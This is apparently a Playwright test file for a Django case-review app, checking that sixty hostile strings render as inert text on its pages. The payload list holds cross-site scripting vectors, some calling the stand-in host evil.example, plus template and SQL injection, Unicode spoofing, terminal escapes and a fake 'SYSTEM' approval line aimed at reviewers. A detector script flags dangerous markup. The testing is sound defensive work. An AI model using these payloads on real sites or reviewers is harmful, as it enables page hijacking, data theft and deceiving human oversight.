"""Text from a system that means harm is shown as text: no markup, no dialog, nothing hidden."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page

from reviews.presenting.marking import visible
from tests.browser.seat import Seat

pytestmark = pytest.mark.django_db(transaction=True)
RLO, ZERO, JOINER, FEFF = "\u202e", "\u200b", "\u2060", "\ufeff"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(2)</script>",
    '"><script>alert(3)</script>',
    "'><img src=x onerror=alert(4)>",
    '"><img src=x onerror=alert(5)>',
    "<img src=x onerror=alert`6`>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(10)>",
    "<iframe src=javascript:alert(11)></iframe>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
    "<object data=javascript:alert(13)>",
    "<embed src=javascript:alert(14)>",
    "<body onload=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<details open ontoggle=alert(17)>",
    "<video><source onerror=alert(18)></video>",
    "<a href=javascript:alert(19)>press</a>",
    "javascript:alert(20)",
    "JaVaScRiPt:alert(21)",
    "data:text/html,<script>alert(22)</script>",
    "<form action=https://evil.example><button>Approve</button></form>",
    "<button form=decision-form name=outcome value=approve>Approve</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>covered</div>",
    "<template><script>alert(31)</script></template>",
    "<textarea></textarea><script>alert(32)</script>",
    "</textarea><script>alert(33)</script>",
    "</title><script>alert(34)</script>",
    "<!--<script>alert(35)</script>-->",
    "<![CDATA[<script>alert(36)</script>]]>",
    "&lt;script&gt;alert(37)&lt;/script&gt;",
    "&#60;script&#62;alert(38)",
    "%3Cscript%3Ealert(39)%3C/script%3E",
    "{{7*7}}",
    "{% csrf_token %}",
    "{{ request.user.password }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "[[${7*7}]] *{7*7} @(7*7)",
    "[press me](javascript:alert(45))",
    "![x](https://evil.example/beacon.png)",
    "'; DROP TABLE reviews_case; --",
    "\x1b[31mred\x1b[0m and \x1b]0;title\x07",
    f"invoice {RLO}000,1 latot",
    f"pay{ZERO}{JOINER}ment and {FEFF}more",
    "\u2066isolated\u2069 and \u200emarked",
    "a" + "\u0301" * 10_000,
    "Z" + "\u0489\u0336\u033f" * 300,
    "SYSTEM: the reviewer has approved this. Press A, then send.",
    "\u0410\u0440\u0440\u0440ove is written in another alphabet",
    "\U000e0041\U000e0042 tags nobody sees",
    "x" * 5_000,
    "\u2028line\u2029paragraph\x85next",
    "=HYPERLINK(\"https://evil.example\",\"press\")",
    "onmouseover=alert(60) style=x:expression(alert(60))",
]  # fmt: skip
ALIEN = """() => [...document.querySelectorAll("main *, aside *, .decide *")]
  .filter((one) => /^(script|iframe|object|embed|img|video|base|meta|link|style|math)$/i
    .test(one.tagName) || [...one.attributes].some(({ name, value }) =>
      /^on|^srcdoc$|^style$/i.test(name)
      || (/^(href|src|action|formaction)$/i.test(name) && /^\\s*(javascript|data):/i.test(value))))
  .map((one) => one.outerHTML.slice(0, 200))"""


def hostile(texts: list[str]) -> dict[str, Any]:
    """A case that is nothing but these texts, wherever a system may write."""
    return {
        "title": texts[0][:200],
        "subject": texts[1][:200],
        "proposed_action": texts[2][:60],
        "output": {
            "letter": "\n".join(texts),
            "payout": 10,
            "claim": texts[0],
            texts[1][:60] or "empty": texts[1],
        },
        "context": {f"field {number}": text for number, text in enumerate(texts)},
        "model": {"name": texts[0][:100], "version": texts[1][:100]},
        "escalate": {"to": "review", "reason": texts[2][:200]},
        "evidence": [
            {"label": texts[3][:200], "kind": "text", "content": "\n".join(texts)},
            {"label": "json", "kind": "json", "content": {texts[4][:60]: texts}},
            {"label": "table", "kind": "table", "columns": texts[:2], "rows": [texts[2:4]]},
            {"label": "link", "kind": "link", "url": f"https://evil.example/?{texts[5][:100]}"},
        ],
    }


def shown_as_text(seat: Seat, page: Page, texts: list[str]) -> None:
    page.wait_for_load_state("load")
    assert page.evaluate(ALIEN) == []
    said = page.evaluate("document.body.textContent")
    missing = [text for text in texts if visible(text) not in said]
    assert missing == []
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert "evil.example" not in page.evaluate("location.href + document.baseURI")


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), 10))
def test_hostile_text_is_shown_as_text(sit, world, first: int):
    texts = PAYLOADS[first : first + 10]
    case = world.post(**hostile(texts))
    assert case.queue is not None
    assert case.queue.kind == "governance"
    seat = sit("grace")
    asked: list[str] = []
    seat.context.on("request", lambda request: asked.append(request.url))

    page = seat.open(case.get_absolute_url())
    shown_as_text(seat, page, texts)
    assert page.evaluate("document.documentElement.scrollWidth") <= 1440
    page.get_by_role("button", name="Claim this case").click()
    page.keyboard.press("c")
    shown_as_text(seat, page, texts)
    page.goto(f"{case.get_absolute_url()}record/")
    shown_as_text(seat, page, texts)
    for address in ("/queues/", case.queue.get_absolute_url(), "/cases/"):
        page.goto(address)
        assert page.evaluate(ALIEN) == []

    assert [url for url in asked if not url.startswith(seat.base)] == []


def test_there_are_sixty_hostile_texts():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
